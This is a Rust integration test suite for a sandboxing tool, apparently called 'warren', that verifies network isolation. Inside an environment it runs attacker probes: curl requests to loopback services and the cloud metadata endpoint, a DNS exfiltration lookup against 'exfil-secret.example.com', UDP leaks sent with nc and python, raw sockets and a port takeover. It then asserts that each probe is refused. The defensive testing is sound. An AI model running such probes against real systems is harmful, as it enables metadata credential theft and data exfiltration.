//! Network isolation through the real binary (docs/SECURITY.md, "Network"): the
//! attacker in environment `pb` tries to reach environment `pa`, the host's loopback
//! services (TCP over IPv4 and IPv6, UDP), private ranges and cloud metadata, directly
//! and through the egress proxy, to leak data by DNS, to open raw sockets, and to take
//! over `pa`'s service name; then the user checks what got through. Every attempt must
//! be refused, while the allowed path works: an allowed domain through the proxy (plain
//! and tunnelled), `pa`'s service through the router, and a refusal that names the
//! domain and the line to add. Runs on the sandbox (real curl and Python inside) and on
//! Docker (busybox inside).

use std::io::{Read, Write};
use std::net::{TcpListener, UdpSocket};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use crate::harness::*;

/// Servers on the host's loopback that an environment must not reach (and one it may:
/// `allowed`, through the proxy only).
struct HostServers {
    tcp: u16,
    tcp6: Option<u16>,
    udp: u16,
    allowed: u16,
    /// What reached any forbidden server: (server, first bytes).
    hits: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
}

impl HostServers {
    fn start() -> HostServers {
        let hits = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let serve = |l: TcpListener, label: &'static str, record: bool| {
            let (hits, stop) = (Arc::clone(&hits), Arc::clone(&stop));
            l.set_nonblocking(true).unwrap();
            std::thread::spawn(move || {
                while !stop.load(Ordering::Relaxed) {
                    match l.accept() {
                        Ok((mut s, _)) => {
                            s.set_nonblocking(false).unwrap();
                            s.set_read_timeout(Some(Duration::from_millis(500)))
                                .unwrap();
                            let mut buf = [0u8; 256];
                            let n = s.read(&mut buf).unwrap_or(0);
                            if record {
                                hits.lock().unwrap().push(format!(
                                    "{label}: {}",
                                    String::from_utf8_lossy(&buf[..n.min(60)])
                                ));
                            }
                            let body = format!("{label}-content\n");
                            let _ = write!(
                                s,
                                "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
                                body.len()
                            );
                        }
                        Err(_) => std::thread::sleep(Duration::from_millis(10)),
                    }
                }
            });
        };
        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
        let tcp_port = tcp.local_addr().unwrap().port();
        serve(tcp, "host-tcp", true);
        let tcp6_port = TcpListener::bind("[::1]:0").ok().map(|l| {
            let p = l.local_addr().unwrap().port();
            serve(l, "host-tcp6", true);
            p
        });
        let allowed = TcpListener::bind("127.0.0.1:0").unwrap();
        let allowed_port = allowed.local_addr().unwrap().port();
        serve(allowed, "allowed", false);
        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
        let udp_port = udp.local_addr().unwrap().port();
        udp.set_read_timeout(Some(Duration::from_millis(100)))
            .unwrap();
        {
            let (hits, stop) = (Arc::clone(&hits), Arc::clone(&stop));
            std::thread::spawn(move || {
                let mut buf = [0u8; 512];
                while !stop.load(Ordering::Relaxed) {
                    if let Ok((n, _)) = udp.recv_from(&mut buf) {
                        hits.lock().unwrap().push(format!(
                            "host-udp: {}",
                            String::from_utf8_lossy(&buf[..n.min(60)])
                        ));
                    }
                }
            });
        }
        HostServers {
            tcp: tcp_port,
            tcp6: tcp6_port,
            udp: udp_port,
            allowed: allowed_port,
            hits,
            stop,
        }
    }
}

impl Drop for HostServers {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
    }
}

/// The attempts as a shell script printing `NAME: ok` when the attacker got through
/// and `NAME: refused` otherwise. `$T`, `$T6`, `$U`, `$P` are the host's TCP, TCP6,
/// UDP and proxy ports. `curl`/`python3` on the sandbox, busybox in the container.
fn attempts(sandbox: bool) -> &'static str {
    if sandbox {
        r#"
try() { name=$1; shift; if "$@" >/dev/null 2>&1; then echo "$name: ok"; else echo "$name: refused"; fi; }
py() { python3 -c "$1"; }
try host-loopback-tcp curl -sf --noproxy '*' -m 3 http://127.0.0.1:$T/
try host-loopback-tcp6 curl -sf --noproxy '*' -m 3 "http://[::1]:$T6/"
try host-proxy-port curl -sf --noproxy '*' -m 3 http://127.0.0.1:$P/
try metadata-direct curl -sf --noproxy '*' -m 3 http://169.254.169.254/latest/meta-data/
try private-direct curl -sf --noproxy '*' -m 3 http://10.0.0.1/
try host-loopback-via-proxy curl -sf -m 5 http://127.0.0.1:$T/
try host-loopback-tunnel curl -sf -m 5 -p http://127.0.0.1:$T/
try ipv6-loopback-via-proxy curl -sf -m 5 "http://[::1]:$T6/"
try metadata-via-proxy curl -sf -m 5 http://169.254.169.254/latest/meta-data/
try metadata-v6-via-proxy curl -sf -m 5 "http://[fd00:ec2::254]/"
try private-via-proxy curl -sf -m 5 http://10.1.2.3/
try mapped-v6-via-proxy curl -sf -m 5 "http://[::ffff:127.0.0.1]:$T/"
try other-env-via-proxy curl -sf -m 5 http://web.pa.localhost:$P/
try other-env-port curl -sf --noproxy '*' -m 3 http://127.0.0.1:8000/
try dns-lookup py "import socket; socket.getaddrinfo('exfil-secret.example.com', 80)"
try udp-to-host py "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.connect(('127.0.0.1', $U)); s.send(b'udp-leak'); s.recv(10)"
try udp-to-public py "import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'udp-leak', ('8.8.8.8', 53))"
try raw-socket py "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)"
try packet-socket py "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"
"#
    } else {
        r#"
try() { name=$1; shift; if "$@" >/dev/null 2>&1; then echo "$name: ok"; else echo "$name: refused"; fi; }
# (busybox's `wget -T` crashes in this build: `timeout` bounds it instead.)
direct() { env -u http_proxy -u HTTP_PROXY timeout 3 wget -q -O- "$1"; }
try host-loopback-tcp direct http://127.0.0.1:$T/
try host-proxy-port direct http://127.0.0.1:$P/
try metadata-direct direct http://169.254.169.254/latest/meta-data/
try private-direct direct http://10.0.0.1/
try host-loopback-via-proxy timeout 5 wget -q -O- http://127.0.0.1:$T/
try metadata-via-proxy timeout 5 wget -q -O- http://169.254.169.254/latest/meta-data/
try private-via-proxy timeout 5 wget -q -O- http://10.1.2.3/
try other-env-via-proxy timeout 5 wget -q -O- http://web.pa.localhost:$P/
try other-env-port direct http://127.0.0.1:8000/
try dns-lookup nslookup exfil-secret.example.com
try udp-to-host sh -c "echo udp-leak | nc -u -w 1 127.0.0.1 $U"
try raw-ping ping -c 1 -W 1 127.0.0.1
"#
    }
}

/// Runs the attempts in `pb`; returns (name, got through) pairs.
fn attack(t: &TestContext, sandbox: bool, s: &HostServers) -> Vec<(String, bool)> {
    let script = format!(
        "T={} T6={} U={} P={}\n{}",
        s.tcp,
        s.tcp6.unwrap_or(1),
        s.udp,
        t.proxy_port,
        attempts(sandbox)
    );
    let run = t.warren(&["exec", "pb", "--", "sh", "-c", &script]).ok();
    progress!("attempts:\n{}", run.stdout.trim_end());
    run.stdout
        .lines()
        .filter_map(|l| l.split_once(": "))
        .map(|(n, v)| (n.to_string(), v == "ok"))
        .collect()
}

fn scenario(runtime: &str) {
    let sandbox = runtime == "sandbox";
    let servers = HostServers::start();
    let mut t = TestContext::new();
    t.write(
        ".warren.yaml",
        &format!(
            "{}egress: {{allow: [allowed.test]}}\n",
            if sandbox {
                String::new()
            } else {
                format!("image: {BUSYBOX}\n")
            }
        ),
    );
    t.commit("config");
    t.env(
        "WARREN_EGRESS_TEST_RESOLVE",
        &format!("allowed.test=127.0.0.1:{}", servers.allowed),
    );
    let rt = format!("--runtime={runtime}");
    // pa serves its name on 8000; pb is the attacker.
    t.warren(&["run", &rt, "-n", "pa", "-p", "web=8000", "--", "sh", "-c",
        "mkdir -p /tmp/www && echo pa-content > /tmp/www/index.html && httpd -p 8000 -h /tmp/www || busybox httpd -p 8000 -h /tmp/www"])
        .ok();
    t.warren(&["run", &rt, "-n", "pb", "--", "true"]).ok();
    let url = format!("http://web.pa.localhost:{}/", t.proxy_port);
    assert_eq!(
        http_get(&url).trim(),
        "pa-content",
        "pa's service through the router"
    );

    let results = attack(&t, sandbox, &servers);
    assert!(results.len() >= 10, "the attempts did not run: {results:?}");
    let escaped: Vec<&String> = results
        .iter()
        .filter(|(_, ok)| *ok)
        .map(|(n, _)| n)
        .collect();
    let hits = servers.hits.lock().unwrap().clone();
    progress!(
        "{runtime}: {} attempts, {} escapes, {} hits on the host's servers",
        results.len(),
        escaped.len(),
        hits.len()
    );
    assert!(escaped.is_empty(), "{runtime}: got through: {escaped:?}");
    assert!(
        hits.is_empty(),
        "{runtime}: the host's servers were reached: {hits:?}"
    );

    // The allowed path works, through the proxy only, plain and tunnelled.
    let fetch = if sandbox {
        "curl -sf -m 5 http://allowed.test/ && curl -sf -m 5 -p http://allowed.test/"
    } else {
        "timeout 5 wget -q -O- http://allowed.test/"
    };
    let run = t.warren(&["exec", "pb", "--", "sh", "-c", fetch]).ok();
    assert!(run.stdout.contains("allowed-content"), "{}", run.stdout);
    // A refusal says what was refused and what to add.
    let refused = if sandbox {
        "curl -s -m 5 http://registry.example.org/pkg; curl -s -m 5 https://registry.example.org/ 2>&1; true"
    } else {
        "timeout 5 wget -S -O- http://registry.example.org/pkg 2>&1; true"
    };
    let run = t.warren(&["exec", "pb", "--", "sh", "-c", refused]).ok();
    progress!("refusal: {}", run.stdout.trim());
    if sandbox {
        assert!(
            run.stdout.contains("registry.example.org") && run.stdout.contains("egress"),
            "the refusal names the domain and the config line: {}",
            run.stdout
        );
    } else {
        assert!(run.stdout.contains("403"), "{}", run.stdout);
    }

    // Port take-over: pb serves on "pa's" port in its own namespace; pa's name still
    // routes to pa, and once pa's server is gone, to nothing — never to pb.
    t.warren(&["exec", "pb", "--", "sh", "-c",
        "mkdir -p /tmp/evil && echo EVIL > /tmp/evil/index.html && (httpd -p 8000 -h /tmp/evil || busybox httpd -p 8000 -h /tmp/evil)"])
        .ok();
    assert_eq!(http_get(&url).trim(), "pa-content");
    t.warren(&["exec", "pa", "--", "sh", "-c", KILL_SERVER])
        .ok();
    std::thread::sleep(Duration::from_millis(300));
    let after = http_get(&url);
    assert!(!after.contains("EVIL"), "pb took over pa's name: {after}");
    progress!(
        "after pa's server stopped, web.pa answers: {}",
        after.trim()
    );

    // The network log has the allowed and the refused requests.
    assert!(wait_for_log(&t, "pb", "\"host\":\"169.254.169.254\""));
    let log = t.warren(&["net", "log", "pb", "--json"]).ok();
    let rows: Vec<serde_json::Value> = log
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert!(
        rows.iter()
            .any(|r| r["host"] == "allowed.test" && r["allowed"] == true),
        "{rows:?}"
    );
    assert!(
        rows.iter()
            .any(|r| r["host"] == "registry.example.org" && r["allowed"] == false),
        "{rows:?}"
    );
    assert!(
        rows.iter()
            .any(|r| r["host"] == "169.254.169.254" && r["allowed"] == false),
        "{rows:?}"
    );
    let text = t.warren(&["net", "log", "pb"]).ok();
    assert!(text.stdout.contains("denied"), "{}", text.stdout);

    t.warren(&["rm", "-f", "pa", "pb"]).ok();
    assert!(
        dir_names(&t.root.join("net")).is_empty(),
        "network dirs left behind"
    );
}

/// Ends pa's server (by its command line: in the sandbox it is `busybox`; the pattern
/// is written so that it does not match this script's own command line).
const KILL_SERVER: &str = r#"for p in /proc/[0-9]*; do case "$(tr '\0' ' ' < $p/cmdline 2>/dev/null)" in *"httpd -p 8"[0]00*) kill ${p#/proc/};; esac; done; true"#;

/// Whether `warren net log NAME --json` has a line containing `needle` within 3 s.
fn wait_for_log(t: &TestContext, name: &str, needle: &str) -> bool {
    let deadline = std::time::Instant::now() + Duration::from_secs(3);
    loop {
        let log = t.warren(&["net", "log", name, "--json"]).ok();
        if log.stdout.contains(needle) {
            return true;
        }
        if std::time::Instant::now() > deadline {
            return false;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// A GET with no proxy, the body (or the error).
fn http_get(url: &str) -> String {
    let out = std::process::Command::new("curl")
        .args(["-s", "-m", "5", "--noproxy", "*", url])
        .output()
        .expect("curl");
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn sandbox_environments_reach_only_what_they_are_allowed() {
    scenario("sandbox");
}

#[test]
fn docker_environments_reach_only_what_they_are_allowed() {
    if !require_docker() {
        return;
    }
    scenario("docker");
}

/// Item 1: `examples/hello` starts its dev server from `postStartCommand`; the server
/// outlives that command and answers through the router, on both runtimes.
fn hello_example(runtime: &str) {
    let t = TestContext::new();
    let src = workspace().join("examples/hello");
    let st = std::process::Command::new("cp")
        .arg("-rT")
        .arg(&src)
        .arg(&t.repo)
        .status()
        .unwrap();
    assert!(st.success());
    t.commit("hello");
    t.warren(&[
        "run",
        &format!("--runtime={runtime}"),
        "--name",
        "hello",
        "--",
        "true",
    ])
    .ok();
    let want = std::fs::read_to_string(src.join("public/index.html")).unwrap();
    let url = format!("http://web.hello.localhost:{}/", t.proxy_port);
    let got = http_get(&url);
    assert_eq!(got, want, "{runtime}: {url}");
    progress!("{runtime}: {url} answers with examples/hello/public/index.html");
    t.warren(&["stop", "hello"]).ok();
    t.warren(&["start", "hello"]).ok();
    assert_eq!(
        http_get(&url),
        want,
        "{runtime}: again after stop and start"
    );
    t.warren(&["rm", "-f", "hello"]).ok();
}

#[test]
fn examples_hello_serves_on_the_sandbox() {
    hello_example("sandbox");
}

#[test]
fn examples_hello_serves_on_docker() {
    if !require_docker() {
        return;
    }
    hello_example("docker");
}

/// Item 6: a dev server in an isolated environment keeps what HMR needs through the
/// router — an `Upgrade` (WebSocket-style) tunnel and a server-sent event stream that
/// arrives event by event — and `WARREN_URL_*` names the router's address.
#[test]
fn upgrades_and_event_streams_reach_an_isolated_environment() {
    let t = TestContext::new();
    let server = workspace().join("crates/warren-cli/tests/it/fixtures/stream_server.py");
    let run = t
        .warren(&[
            "run",
            "--runtime=sandbox",
            "-n",
            "hmr",
            "-p",
            "web=8000",
            "--",
            "sh",
            "-c",
            "echo $WARREN_URL_WEB",
        ])
        .ok();
    assert_eq!(
        run.stdout.trim(),
        format!("http://web.hmr.localhost:{}", t.proxy_port)
    );
    // The script is read from its host path: the sandbox shows the workspace's files.
    std::fs::copy(&server, t.root.join("worktrees/repo/hmr/stream_server.py")).unwrap();
    t.warren(&[
        "exec",
        "hmr",
        "--",
        "sh",
        "-c",
        "setsid python3 stream_server.py 8000 >/dev/null 2>&1 &",
    ])
    .ok();
    std::thread::sleep(Duration::from_millis(500));
    let port = t.proxy_port;
    let client = format!(
        r#"
import socket, time
def conn():
    s = socket.create_connection(("127.0.0.1", {port})); s.settimeout(5); return s
s = conn()
s.sendall(b"GET /ws HTTP/1.1\r\nHost: web.hmr.localhost\r\nConnection: Upgrade\r\nUpgrade: echo\r\n\r\n")
head = b""
while b"\r\n\r\n" not in head: head += s.recv(1)
assert b" 101 " in head.split(b"\r\n")[0], head
for word in (b"ping", b"pong"):
    s.sendall(word); got = b""
    while len(got) < len(word): got += s.recv(16)
    assert got == word, got
print("upgrade ok")
s = conn()
s.sendall(b"GET /events HTTP/1.1\r\nHost: web.hmr.localhost\r\nAccept: text/event-stream\r\n\r\n")
start = time.time(); buf = b""
while b"event-0" not in buf: buf += s.recv(4096)
first = time.time() - start
while b"event-1" not in buf: buf += s.recv(4096)
assert first < 0.8, first
print("sse ok, first event after %.2f s" % first)
"#
    );
    let out = std::process::Command::new("python3")
        .arg("-c")
        .arg(&client)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    progress!("{}{}", text, String::from_utf8_lossy(&out.stderr));
    assert!(out.status.success() && text.contains("upgrade ok") && text.contains("sse ok"));
    t.warren(&["rm", "-f", "hmr"]).ok();
}

/// `open` lets any public domain through the proxy (still logged) but never a private
/// or loopback address; `none` has no proxy at all.
#[test]
fn open_and_none_modes() {
    let servers = HostServers::start();
    let mut t = TestContext::new();
    t.env(
        "WARREN_EGRESS_TEST_RESOLVE",
        &format!("anything.test=127.0.0.1:{}", servers.allowed),
    );
    let run = t
        .warren(&[
            "run",
            "--runtime=sandbox",
            "--network",
            "open",
            "-n",
            "po",
            "--",
            "sh",
            "-c",
            "curl -sf -m 5 http://anything.test/; \
             curl -s -m 5 -o /dev/null -w '%{http_code}\\n' http://10.1.2.3/; \
             curl -s -m 5 --noproxy '' -o /dev/null -w '%{http_code}\\n' http://127.0.0.1:1/",
        ])
        .ok();
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(lines, ["allowed-content", "403", "403"], "{}", run.stdout);
    // The daemon writes its log in batches (within ~20 ms).
    let logged = wait_for_log(&t, "po", "\"host\":\"anything.test\"");
    assert!(logged, "anything.test is not in the network log");

    let run = t
        .warren(&["run", "--runtime=sandbox", "--network", "none", "-n", "pn", "--", "sh", "-c",
            "echo proxy=${HTTP_PROXY:-none}; curl -sf -m 3 -x http://127.0.0.1:3128 http://anything.test/ || echo refused"])
        .ok();
    assert_eq!(run.stdout.trim(), "proxy=none\nrefused");
    assert!(servers.hits.lock().unwrap().is_empty());
    let ls = t.warren(&["ls"]).ok();
    assert!(!ls.stdout.contains("host network"), "{}", ls.stdout);
    t.warren(&[
        "run",
        "--runtime=sandbox",
        "--network",
        "host",
        "-n",
        "ph",
        "--",
        "true",
    ])
    .ok();
    let ls = t.warren(&["ls"]).ok();
    assert!(
        ls.stdout.contains("sandbox (host network)"),
        "ls flags it: {}",
        ls.stdout
    );
    t.warren(&["rm", "-f", "po", "pn", "ph"]).ok();
}
